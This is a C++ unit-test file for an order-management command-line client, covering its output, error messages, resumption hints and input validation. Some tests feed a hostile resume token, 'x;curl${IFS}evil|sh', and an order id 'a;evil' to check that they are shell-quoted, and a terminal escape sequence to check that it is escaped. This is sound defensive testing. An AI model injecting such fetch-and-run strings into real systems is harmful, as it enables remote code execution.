#include "client/orders/orders_commands.h"

#include <fstream>
#include <string>
#include <vector>

#include "client/orders/testing/fake_shop.h"
#include "client/testing/cli_under_test.h"
#include "client/testing/fake_server.h"
#include "gmock/gmock.h"
#include "google/protobuf/util/json_util.h"
#include "gtest/gtest.h"

namespace client {
namespace {

using grpc::StatusCode;
using inventory::v1::GetStockRequest;
using inventory::v1::GetStockResponse;
using orders::v1::GetOrderRequest;
using orders::v1::ImportOrdersRequest;
using orders::v1::ImportOrdersResponse;
using orders::v1::ListOrdersRequest;
using orders::v1::ListOrdersResponse;
using orders::v1::Order;
using orders::v1::ORDER_STATE_CONFIRMED;
using orders::v1::ORDER_STATE_PLACED;
using orders::v1::ORDER_STATE_UNSPECIFIED;
using orders::v1::PlaceOrderRequest;
using orders::v1::TrackOrdersRequest;
using orders::v1::TrackOrdersResponse;
using orders::v1::WatchOrdersRequest;
using orders::v1::WatchOrdersResponse;
using testing::ElementsAre;
using testing::EndsWith;
using testing::HasSubstr;
using testing::MatchesRegex;
using testing::Not;
using testing::StartsWith;

constexpr char kOrderA[] = "a  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n";

class CliTest : public CliUnderTest {
 protected:
  CliTest() : CliUnderTest(OrdersCommands()) {}

  // Runs the program against the fake servers.
  int Client(std::vector<std::string> arguments, std::size_t output_takes = kNoLimit) {
    arguments.push_back((arguments[0] == "stock" ? "--inventory=" : "--address=") +
                        server_.address());
    return Run(arguments, output_takes);
  }

  std::string same_server() const { return " --address=" + server_.address() + "\n"; }

  FakeShop server_;
  FakeOrders& fake_ = server_.orders;
};

using CliHelpTest = CliTest;

TEST_F(CliHelpTest, ExistsForEveryCommandAndFitsATerminal) { ExpectHelp(); }

TEST_F(CliHelpTest, ShowsACommandsFlagsHoweverItIsAsked) {
  EXPECT_EQ(Run({"help", "place"}), kDone);
  const std::string help = out();
  EXPECT_THAT(help, StartsWith("client place --customer=NAME SKU=QUANTITY...: place an order\n"));
  EXPECT_THAT(help, HasSubstr("--request-id=ID"));
  EXPECT_EQ(Run({"place", "--help"}), kDone);
  EXPECT_EQ(out(), help);
  EXPECT_EQ(Run({"place", "apple=1", "-h"}), kDone);
  EXPECT_EQ(out(), help);
}

TEST_F(CliHelpTest, UsageErrorsListValidChoicesInOneLine) {
  ExpectUsageError({"place", "apple=2"}, "who orders? --customer=NAME");
  ExpectUsageError({"place", "--customer=ann"}, "what is ordered? SKU=QUANTITY...");
  ExpectUsageError({"place", "--customer=ann", "apple"},
                   "\"apple\" is no item: write SKU=QUANTITY, as in apple=2");
  ExpectUsageError({"place", "--customer=ann", "apple=two"},
                   "\"apple=two\" is no item: write SKU=QUANTITY, as in apple=2");
  ExpectUsageError({"get"}, "which order? One id");
  ExpectUsageError({"get", "a", "b"}, "which order? One id");
  ExpectUsageError({"cancel"}, "which order? One id");
  ExpectUsageError({"sales", "apple"}, "shows all SKUs; takes flags only");
  ExpectUsageError({"get", "a", "--timeout=10"},
                   "\"10\" is no duration from 1ms to 24h with its unit, as in 10s or 2m");
  ExpectUsageError({"list", "a"}, "shows all orders; `client get ID` one");
  ExpectUsageError({"list", "--count=none"}, "\"none\" is no whole number from 1 on");
  ExpectUsageError({"list", "--from=x"}, "unknown flag --from");
  ExpectUsageError({"watch", "a"}, "watches all orders; `client track ID` some");
  ExpectUsageError({"track"}, "which orders? One id or more");
  ExpectUsageError({"import"}, "which file? One, or - for stdin");
  ExpectUsageError({"stock", "--json=x"}, "--json takes no value");
}

TEST_F(CliTest, AnAddressForOperatorsHasAdvice) {
  const FakeServer operators;
  EXPECT_EQ(Run({"list", "--address=" + operators.address()}), kRefused);
  EXPECT_THAT(err(), StartsWith("client list: UNIMPLEMENTED. Is the address right? A server "));
}

using CliPlaceTest = CliTest;

TEST_F(CliPlaceTest, PlacesTheOrderAndPrintsIt) {
  fake_.place.Then([](const PlaceOrderRequest& request, Order& order) {
    EXPECT_EQ(request.customer(), "ann");
    EXPECT_EQ(request.request_id(), "r1");
    EXPECT_EQ(request.items_size(), 2);
    EXPECT_EQ(request.items(1).sku(), "odd=sku");
    EXPECT_EQ(request.items(1).quantity(), 3);
    order = MakeOrder("a", ORDER_STATE_PLACED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "--request-id=r1", "apple=2", "odd=sku=3"}), kDone);
  EXPECT_EQ(out(), kOrderA);
  EXPECT_EQ(err(), "");
}

TEST_F(CliPlaceTest, PrintsTheOrderAsJson) {
  fake_.place.Then([](const PlaceOrderRequest&, Order& order) {
    order = MakeOrder("a", ORDER_STATE_PLACED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "apple=2", "--json"}), kDone);
  EXPECT_EQ(out(),
            "{\"orderId\":\"a\",\"requestId\":\"\",\"customer\":\"ann\",\"items\":[{\"sku\":"
            "\"apple\",\"quantity\":"
            "\"2\"}],\"state\":\"ORDER_STATE_PLACED\",\"createTime\":\"2023-11-14T22:13:20Z\"}\n");
}

TEST_F(CliPlaceTest, PrintsEveryFieldAsJson) {
  fake_.place.Then([](const PlaceOrderRequest&, Order&) { return grpc::Status::OK; });
  EXPECT_EQ(Client({"place", "--customer=ann", "apple=2", "--json"}), kDone);
  EXPECT_EQ(out(),
            "{\"orderId\":\"\",\"requestId\":\"\",\"customer\":\"\",\"items\":[],\"state\":"
            "\"ORDER_STATE_UNSPECIFIED\"}\n");
}

TEST_F(CliPlaceTest, LostOutputStillSaysTheOrderIsStored) {
  fake_.place.Then([](const PlaceOrderRequest&, Order& order) {
    order = MakeOrder("a", ORDER_STATE_PLACED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "apple=2"}, /*output_takes=*/0), kOutputLost);
  EXPECT_EQ(err(),
            "client place: cannot write its output: the output takes no more. The order is stored: "
            "client get a" +
                same_server());
}

TEST_F(CliPlaceTest, QuotesAnIdFromTheServerForAShell) {
  fake_.place.Then([](const PlaceOrderRequest&, Order& order) {
    order = MakeOrder("a;evil", ORDER_STATE_PLACED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "apple=2"}, /*output_takes=*/0), kOutputLost);
  EXPECT_THAT(err(), EndsWith("The order is stored: client get 'a;evil'" + same_server()));
}

TEST_F(CliPlaceTest, NamesEveryFieldThatIsWrong) {
  fake_.place.Then([](const PlaceOrderRequest&, Order&) {
    return BadRequest({{"customer", "at most 128 characters"}, {"items[0].quantity", "from 1 on"}});
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "apple=-2"}), kRefused);
  EXPECT_EQ(err(),
            "client place: INVALID_ARGUMENT: customer: at most 128 characters; "
            "items[0].quantity: from 1 on\n");
  EXPECT_EQ(out(), "");
}

TEST_F(CliPlaceTest, SaysWhatToDoWhenStockIsOut) {
  fake_.place.Then([](const PlaceOrderRequest&, Order&) {
    return Refusal(StatusCode::FAILED_PRECONDITION, "too few left", "OUT_OF_STOCK",
                   {{"sku", "pear"}});
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "pear=2"}), kRefused);
  EXPECT_EQ(err(),
            "client place: FAILED_PRECONDITION: too few left (OUT_OF_STOCK, sku=pear). "
            "`client stock` shows what is left.\n");
}

TEST_F(CliPlaceTest, GivesTheRequestIdOfAnOpenOutcome) {
  Recorded<std::string> ids;
  fake_.place.Then([&ids](const PlaceOrderRequest& request, Order&) {
    ids.Add(request.request_id());
    return Refusal(StatusCode::RESOURCE_EXHAUSTED, "busy", "OVERLOADED");
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "pear=2"}), kTryAgain);
  ASSERT_EQ(ids.all().size(), 1u);
  EXPECT_EQ(err(),
            "client place: RESOURCE_EXHAUSTED: busy (OVERLOADED). Try again later. The order may "
            "be stored: the same command with --request-id=" +
                ids.all()[0] + " makes sure of it, and stores it once.\n");
}

TEST_F(CliPlaceTest, CtrlCGivesTheRequestId) {
  Recorded<std::string> ids;
  std::stop_source over;
  fake_.place.Then([&, end = over.get_token()](const PlaceOrderRequest& request, Order&) {
    ids.Add(request.request_id());
    interrupt_.request_stop();
    AwaitStop(end);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"place", "--customer=ann", "pear=2"}), kInterrupted);
  over.request_stop();
  ASSERT_EQ(ids.all().size(), 1u);
  EXPECT_EQ(err(),
            "client place: interrupted. The order may be stored: the same command with "
            "--request-id=" +
                ids.all()[0] + " makes sure of it, and stores it once.\n");
}

TEST_F(CliPlaceTest, GivesTheRequestIdWhenOnlyAProxyAnswered) {
  const auto end_with = [this](StatusCode code, const std::string& message) {
    fake_.place.Then([=](const PlaceOrderRequest&, Order&) { return grpc::Status(code, message); });
  };
  const std::string hint =
      ". The order may be stored: the same command with --request-id=r1 makes sure of it, and "
      "stores it once.\n";
  end_with(StatusCode::UNKNOWN, "Stream removed");
  end_with(StatusCode::INTERNAL, "Received RST_STREAM with error code 2");
  EXPECT_EQ(Client({"place", "--customer=ann", "pear=2", "--request-id=r1"}), kTryAgain);
  EXPECT_EQ(err(), "client place: UNKNOWN: Stream removed" + hint);
  EXPECT_EQ(Client({"place", "--customer=ann", "pear=2", "--request-id=r1"}), kTryAgain);
  EXPECT_EQ(err(), "client place: INTERNAL: Received RST_STREAM with error code 2" + hint);
}

using CliGetTest = CliTest;

TEST_F(CliGetTest, PrintsTheOrder) {
  fake_.get.Then([](const GetOrderRequest& request, Order& order) {
    order = MakeOrder(request.order_id(), ORDER_STATE_PLACED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"get", "a"}), kDone);
  EXPECT_EQ(out(), kOrderA);
}

TEST_F(CliGetTest, EscapesTerminalControlsInAnOrder) {
  fake_.get.Then([](const GetOrderRequest&, Order& order) {
    order = MakeOrder("a", ORDER_STATE_PLACED);
    order.set_customer("\x1b[2Jann\n");
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"get", "a"}), kDone);
  EXPECT_EQ(out(), "a  PLACED     2023-11-14T22:13:20Z   [2Jann   apple=2\n");
}

TEST_F(CliGetTest, AnUnknownOrderIsRefused) {
  fake_.get.Then([](const GetOrderRequest&, Order&) {
    return Refusal(StatusCode::NOT_FOUND, "there is no order x", "UNKNOWN_ORDER");
  });
  EXPECT_EQ(Client({"get", "x"}), kRefused);
  EXPECT_EQ(err(),
            "client get: NOT_FOUND: there is no order x (UNKNOWN_ORDER). `client list` shows the "
            "orders there are.\n");
}

TEST_F(CliGetTest, WithoutAServerNamesTheAddressExiting3) {
  EXPECT_EQ(Run({"get", "x", "--address=127.0.0.1:1", "--timeout=50ms"}), kTryAgain);
  EXPECT_THAT(err(), StartsWith("client get: UNAVAILABLE: no server serves at 127.0.0.1:1 (waited "
                                "50ms)"));
  EXPECT_THAT(err(),
              EndsWith(". Does the server run, and are its address and the --tls flags right?\n"));
}

TEST_F(CliPlaceTest, SaysHowToCheckAnUnansweredOrder) {
  EXPECT_EQ(Run({"place", "--customer=ann", "apple=1", "--request-id=r1", "--address=127.0.0.1:1",
                 "--timeout=50ms"}),
            kTryAgain);
  EXPECT_THAT(
      err(),
      EndsWith(
          "Does the server run, and are its address and the --tls flags right? The order may be "
          "stored: the same command with --request-id=r1 makes sure of it, and "
          "stores it once.\n"));
}

using CliCancelTest = CliTest;

TEST_F(CliCancelTest, CancelsTheOrderAndPrintsIt) {
  fake_.cancel.Then([](const orders::v1::CancelOrderRequest& request, Order& order) {
    order = MakeOrder(request.order_id(), orders::v1::ORDER_STATE_CANCELLED);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"cancel", "a"}), kDone);
  EXPECT_EQ(out(), "a  CANCELLED  2023-11-14T22:13:20Z  ann  apple=2\n");
}

TEST_F(CliCancelTest, AnUnknownOrderIsRefused) {
  fake_.cancel.Then([](const orders::v1::CancelOrderRequest&, Order&) {
    return Refusal(StatusCode::NOT_FOUND, "there is no order a", "UNKNOWN_ORDER");
  });
  EXPECT_EQ(Client({"cancel", "a"}), kRefused);
}

using CliSalesTest = CliTest;

TEST_F(CliSalesTest, PrintsEachSkuAndItsQuantity) {
  const auto sales = [](orders::v1::GetSalesResponse& response) {
    auto* one = response.add_sales();
    one->set_sku("apple");
    one->set_quantity(7);
    response.set_sequence(9);
    return grpc::Status::OK;
  };
  fake_.sales.Then(sales).Then(sales);
  EXPECT_EQ(Client({"sales"}), kDone);
  EXPECT_EQ(out(), "         7  apple\n");
  EXPECT_EQ(Client({"sales", "--json"}), kDone);
  EXPECT_EQ(out(), "{\"sales\":[{\"sku\":\"apple\",\"quantity\":\"7\"}],\"sequence\":\"9\"}\n");
}

class CliListTest : public CliTest {
 protected:
  void SetUp() override {
    const auto page = [](const ListOrdersRequest&, ListOrdersResponse& response) {
      *response.add_orders() = MakeOrder("a", ORDER_STATE_PLACED);
      *response.add_orders() = MakeOrder("b", ORDER_STATE_CONFIRMED);
      response.set_next_page_token("next");
      return grpc::Status::OK;
    };
    fake_.list.Then(page).Then([=](const ListOrdersRequest& request, ListOrdersResponse& response) {
      page(request, response);
      response.clear_next_page_token();
      return grpc::Status::OK;
    });
  }
};

TEST_F(CliListTest, PrintsAllPages) {
  const std::string page =
      std::string(kOrderA) + "b  CONFIRMED  2023-11-14T22:13:20Z  ann  apple=2\n";
  EXPECT_EQ(Client({"list"}), kDone);
  EXPECT_EQ(out(), page + page);
}

TEST_F(CliListTest, EndsWhenItsOutputTakesNoMore) {
  EXPECT_EQ(Client({"list"}, std::string(kOrderA).size()), kOutputLost);
  EXPECT_EQ(out(), kOrderA);
  EXPECT_EQ(err(), "client list: cannot write its output: the output takes no more\n");
  EXPECT_EQ(fake_.list.calls(), 1u);
}

TEST_F(CliListTest, AsksForNoMoreThanTheCount) {
  EXPECT_EQ(Client({"list", "--count=2"}), kDone);
  EXPECT_EQ(fake_.list.calls(), 1u);
}

class CliWatchTest : public CliTest {
 protected:
  // Sends the events `from` to `to`, then ends with `end`.
  void Serve(std::string token, int from, int to, grpc::Status end) {
    fake_.watch.Then([=](const WatchOrdersRequest& request, FakeOrders::Watch& writer) {
      EXPECT_EQ(request.resume_token(), token);
      SendEvents(writer, from, to, "o");
      return end;
    });
  }

  const grpc::Status broken_{StatusCode::UNAVAILABLE, "Socket closed"};
};

TEST_F(CliWatchTest, PrintsEachEventOnceAcrossARestart) {
  Serve("start", 1, 2, Goodbye("resume_token", "2", 0));
  Serve("2", 3, 5, broken_);
  EXPECT_EQ(Client({"watch", "--from=start", "--count=4"}), kDone);
  EXPECT_EQ(out(),
            "o1  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n"
            "o2  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n"
            "o3  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n"
            "o4  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n");
  EXPECT_EQ(err(), "client watch: go on with: client watch --from=4" + same_server());
}

TEST_F(CliWatchTest, SaysWhereToResumeBeforeItsLostOutput) {
  Serve("start", 1, 5, broken_);
  const std::string line = "o1  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n";
  // The third is written in part.
  EXPECT_EQ(Client({"watch", "--from=start"}, 2 * line.size() + 5), kOutputLost);
  EXPECT_EQ(err(),
            "client watch: cannot write its output: the output takes no more. go on with: client "
            "watch --from=2" +
                same_server());
}

TEST_F(CliWatchTest, PrintsEventsAsJson) {
  Serve("", 7, 7, broken_);
  EXPECT_EQ(Client({"watch", "--json", "--count=1"}), kDone);
  WatchOrdersResponse::Event event;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(out(), &event).ok()) << out();
  EXPECT_EQ(event.resume_token(), "7");
  EXPECT_EQ(event.order().order_id(), "o7");
}

TEST_F(CliWatchTest, ReportsABrokenStreamOnceAGoodbyeNever) {
  Serve("start", 1, 1, Goodbye("resume_token", "1", 0));
  Serve("1", 1, 0, broken_);
  Serve("1", 1, 0, broken_);
  Serve("1", 2, 2, broken_);
  EXPECT_EQ(Client({"watch", "--from=start", "--count=2"}), kDone);
  EXPECT_EQ(err(),
            "client watch: UNAVAILABLE: Socket closed. Trying again.\n"
            "client watch: go on with: client watch --from=2" +
                same_server());
}

TEST_F(CliWatchTest, CtrlCEndsCleanlySayingWhereToResume) {
  Serve("", 1, 1, broken_);
  fake_.watch.Then([this](const WatchOrdersRequest&, FakeOrders::Watch&) {
    interrupt_.request_stop();
    return broken_;
  });
  EXPECT_EQ(Client({"watch"}), kDone);
  EXPECT_THAT(err(), EndsWith("client watch: go on with: client watch --from=1" + same_server()));
}

TEST_F(CliWatchTest, CtrlCBeforeTheCountIsAnInterruption) {
  Serve("", 1, 3, broken_);
  fake_.watch.Then([this](const WatchOrdersRequest&, FakeOrders::Watch&) {
    interrupt_.request_stop();
    return broken_;
  });
  EXPECT_EQ(Client({"watch", "--count=10"}), kInterrupted);
  EXPECT_THAT(err(), EndsWith("client watch: interrupted after 3 of 10\n"
                              "client watch: go on with: client watch --from=3" +
                              same_server()));
}

TEST_F(CliWatchTest, QuotesATokenFromTheServerForAShell) {
  fake_.watch.Then([](const WatchOrdersRequest&, FakeOrders::Watch& writer) {
    WatchOrdersResponse response;
    response.set_resume_token("x;curl${IFS}evil|sh");
    writer.Write(response);
    return grpc::Status(StatusCode::PERMISSION_DENIED, "not yours");
  });
  EXPECT_EQ(Client({"watch"}), kRefused);
  EXPECT_THAT(err(),
              EndsWith("go on with: client watch --from='x;curl${IFS}evil|sh'" + same_server()));
}

TEST_F(CliWatchTest, AForeignTokenIsRefused) {
  fake_.watch.Then([](const WatchOrdersRequest&, FakeOrders::Watch&) {
    return BadRequest({{"resume_token", "was not made by this service"}});
  });
  EXPECT_EQ(Client({"watch", "--from=x"}), kRefused);
  EXPECT_EQ(err(), "client watch: INVALID_ARGUMENT: resume_token: was not made by this service\n");
}

TEST_F(CliWatchTest, SaysWhereToResumeWhenProxiesKeepFailing) {
  const grpc::Status removed(StatusCode::UNKNOWN, "Stream removed");
  Serve("start", 1, 2, removed);
  for (int i = 0; i < 9; ++i) Serve("2", 1, 0, removed);
  EXPECT_EQ(Client({"watch", "--from=start"}), kTryAgain);
  EXPECT_THAT(err(), EndsWith("client watch: UNKNOWN: Stream removed\n"
                              "client watch: go on with: client watch --from=2" +
                              same_server()));
}

TEST_F(CliWatchTest, SaysWhereToResumeWhenItIsNotAllowedAnyMore) {
  Serve("start", 1, 2, {StatusCode::PERMISSION_DENIED, "not yours"});
  EXPECT_EQ(Client({"watch", "--from=start"}), kRefused);
  EXPECT_EQ(err(),
            "client watch: PERMISSION_DENIED: not yours\n"
            "client watch: go on with: client watch --from=2" +
                same_server());
}

TEST_F(CliWatchTest, SaysWhatToDoWhereEventsAreRemoved) {
  for (const std::string from : {"start", "7"}) {
    Serve(from, 1, 0, Refusal(StatusCode::OUT_OF_RANGE, "too old", "EVENTS_REMOVED"));
    EXPECT_EQ(Client({"watch", "--from=" + from}), kRefused);
    EXPECT_EQ(err(),
              "client watch: OUT_OF_RANGE: too old (EVENTS_REMOVED). Old changes are gone: watch "
              "without --from; then `client list` shows the orders as they are.\n");
  }
}

TEST_F(CliWatchTest, GivesUpAfterTheTimeout) {
  EXPECT_EQ(Run({"watch", "--address=127.0.0.1:1", "--timeout=1m"}), kTryAgain);
  EXPECT_GT(clock_->sleeps().size(), 10u);
  EXPECT_THAT(err(),
              EndsWith("Does the server run, and are its address and the --tls flags right?\n"));
}

using CliTrackTest = CliTest;

TEST_F(CliTrackTest, SaysThatItsOutputIsLost) {
  fake_.track.Then([](FakeOrders::Track& stream) {
    TrackOrdersResponse response;
    response.set_resume_token("t1");
    *response.mutable_order() = MakeOrder("a", ORDER_STATE_PLACED);
    stream.Write(response);
    response.set_resume_token("t2");
    *response.mutable_order() = MakeOrder("a", ORDER_STATE_CONFIRMED);
    stream.Write(response);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"track", "a"}, std::string(kOrderA).size()), kOutputLost);
  EXPECT_EQ(out(), kOrderA);
  EXPECT_EQ(err(),
            "client track: cannot write its output: the output takes no more. go on with: client "
            "watch --from=t1" +
                same_server());
}

TEST_F(CliTrackTest, PrintsEachOrderAndItsChanges) {
  fake_.track.Then([](FakeOrders::Track& stream) {
    TrackOrdersRequest request;
    EXPECT_TRUE(stream.Read(&request));
    EXPECT_THAT(request.add_order_ids(), ElementsAre("a", "x"));
    TrackOrdersResponse response;
    response.set_resume_token("t");
    *response.mutable_order() = MakeOrder("a", ORDER_STATE_PLACED);
    stream.Write(response);
    response.mutable_order()->Clear();
    response.mutable_order()->set_order_id("x");
    stream.Write(response);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"track", "a", "x", "--count=2"}), kDone);
  EXPECT_EQ(out(), std::string(kOrderA) + "x  UNKNOWN     \n");
  EXPECT_EQ(err(), "client track: go on with: client watch --from=t" + same_server());
}

class CliImportTest : public CliTest {
 protected:
  // Reads up to `most` orders, then ends with `end`.
  void Serve(int most, grpc::Status end) {
    fake_.import.Then([=, this](FakeOrders::Import& reader, ImportOrdersResponse& response) {
      ImportOrdersRequest request;
      int count = 0;
      while (count < most && reader.Read(&request)) {
        ++count;
        ids_.Add(std::string(request.order().request_id()));
      }
      response.set_durable_orders(count);
      return end;
    });
  }

  static constexpr int kAll = 1000000;
  Recorded<std::string> ids_;
};

TEST_F(CliImportTest, PlacesEveryLineOfStdinAcrossADrain) {
  in_.str("{\"customer\": \"a\"}\n\n{\"customer\": \"b\", \"request_id\": \"mine\"}\n{}\n");
  Serve(1, Goodbye("durable_orders", "1", 0));
  Serve(kAll, grpc::Status::OK);
  EXPECT_EQ(Client({"import", "-", "--batch=monday"}), kDone);
  EXPECT_EQ(out(), "3 orders are stored\n");
  EXPECT_EQ(err(), "");
  EXPECT_THAT(ids_.all(), ElementsAre("monday-1", "mine", "monday-4"));
}

TEST_F(CliImportTest, SaysHowMuchIsStoredDespiteLostOutput) {
  in_.str("{}\n{}\n");
  Serve(kAll, grpc::Status::OK);
  EXPECT_EQ(Client({"import", "-", "--batch=b"}, /*output_takes=*/3), kOutputLost);
  EXPECT_EQ(err(),
            "client import: cannot write its output: the output takes no more. 2 orders are "
            "stored\n");
}

TEST_F(CliImportTest, SaysItsNewBatchBeforeAnyOrderIsSent) {
  in_.str("{}\n");
  Recorded<std::string> said;
  Recorded<std::string> ids;
  fake_.import.Then([&](FakeOrders::Import& reader, ImportOrdersResponse& response) {
    said.Add(err());
    ImportOrdersRequest request;
    while (reader.Read(&request)) ids.Add(std::string(request.order().request_id()));
    response.set_durable_orders(1);
    return grpc::Status::OK;
  });
  EXPECT_EQ(Client({"import", "-"}), kDone);
  ASSERT_EQ(ids.all().size(), 1u);
  const std::string batch = ids.all()[0].substr(0, ids.all()[0].size() - 2);  // Without "-1".
  EXPECT_THAT(said.all(), ElementsAre("client import: if this is cut short, the same file with "
                                      "--batch=" +
                                      batch + " stores the rest\n"));
  EXPECT_EQ(out(), "1 orders are stored\n");
}

TEST_F(CliImportTest, ReadsAFile) {
  const std::string name = testing::TempDir() + "/orders.jsonl";
  std::ofstream(name) << "{\"customer\": \"a\"}\n";
  Serve(kAll, grpc::Status::OK);
  EXPECT_EQ(Client({"import", name, "--json"}), kDone);
  EXPECT_EQ(out(), "{\"durableOrders\":\"1\"}\n");
}

TEST_F(CliImportTest, NamesAMalformedLineAndSendsNothing) {
  in_.str("{\"customer\": \"a\"}\n{\"custmer\": \"b\"}\n");
  EXPECT_EQ(Client({"import", "-"}), kUsage);
  EXPECT_THAT(err(), MatchesRegex("client import: -: line 2: .*custmer.*. Nothing was sent.\n"));
  EXPECT_EQ(fake_.import.calls(), 0u);
}

TEST_F(CliImportTest, AMissingFileIsNamed) {
  EXPECT_EQ(Client({"import", "no/such/file"}), kUsage);
  EXPECT_EQ(err(), "client import: no/such/file: No such file or directory. Nothing was sent.\n");
}

TEST_F(CliImportTest, ADirectoryIsNoFile) {
  EXPECT_EQ(Client({"import", testing::TempDir()}), kUsage);
  EXPECT_THAT(err(), EndsWith(". Nothing was sent.\n"));
}

TEST_F(CliImportTest, TheLineThatIsRefusedIsNamed) {
  in_.str("{}\n\n{}\n{}\n");
  Serve(2, Refusal(StatusCode::FAILED_PRECONDITION, "too few left", "OUT_OF_STOCK",
                   {{"durable_orders", "1"}}));
  EXPECT_EQ(Client({"import", "-", "--batch=b"}), kRefused);
  EXPECT_EQ(err(),
            "client import: line 3: FAILED_PRECONDITION: too few left (OUT_OF_STOCK, "
            "durable_orders=1). 1 of 3 orders are stored; the same file with --batch=b stores the "
            "rest, and none twice.\n");
  EXPECT_EQ(out(), "");
}

TEST_F(CliImportTest, CtrlCSaysWhatIsStoredAndNext) {
  in_.str("{}\n{}\n{}\n");
  fake_.import.Then([this](FakeOrders::Import& reader, ImportOrdersResponse&) {
    ImportOrdersRequest request;
    EXPECT_TRUE(reader.Read(&request));
    interrupt_.request_stop();
    return Goodbye("durable_orders", "1", 0);
  });
  EXPECT_EQ(Client({"import", "-", "--batch=b"}), kInterrupted);
  EXPECT_EQ(err(),
            "client import: interrupted. 1 of 3 orders are stored; the same file with --batch=b "
            "stores the rest, and none twice.\n");
}

TEST_F(CliImportTest, ShowsProgressOnATerminalAndErasesIt) {
  err_is_terminal_ = true;
  in_.str("{}\n{}\n");
  Serve(kAll, grpc::Status::OK);
  EXPECT_EQ(Client({"import", "-"}), kDone);
  EXPECT_THAT(err(), HasSubstr("] 2 of 2 stored"));
  EXPECT_THAT(err(), EndsWith("\r\x1b[K"));
}

class CliStockTest : public CliTest {
 protected:
  void SetUp() override {
    server_.inventory.get_stock.Then(
        [this](const GetStockRequest& request, GetStockResponse& response) {
          for (const auto& sku : request.skus()) asked_.Add(sku);
          auto* stock = response.add_stock();
          stock->set_sku("apple");
          stock->set_initial(100);
          stock->set_available(70);
          stock->set_reserved(10);
          stock->set_confirmed(20);
          return grpc::Status::OK;
        });
  }

  Recorded<std::string> asked_;
};

TEST_F(CliStockTest, PrintsATable) {
  EXPECT_EQ(Client({"stock"}), kDone);
  EXPECT_EQ(out(),
            "SKU     available    reserved   confirmed     initial\n"
            "apple          70          10          20         100\n");
}

TEST_F(CliStockTest, SaysThatItsOutputIsLost) {
  EXPECT_EQ(Client({"stock"}, /*output_takes=*/0), kOutputLost);
  EXPECT_EQ(err(), "client stock: cannot write its output: the output takes no more\n");
}

TEST_F(CliStockTest, PrintsJsonForTheSkusAskedFor) {
  EXPECT_EQ(Client({"stock", "apple", "--json"}), kDone);
  EXPECT_EQ(out(),
            "{\"sku\":\"apple\",\"initial\":\"100\",\"available\":\"70\",\"reserved\":\"10\","
            "\"confirmed\":\"20\"}\n");
  EXPECT_THAT(asked_.all(), ElementsAre("apple"));
}

}  // namespace
}  // namespace client
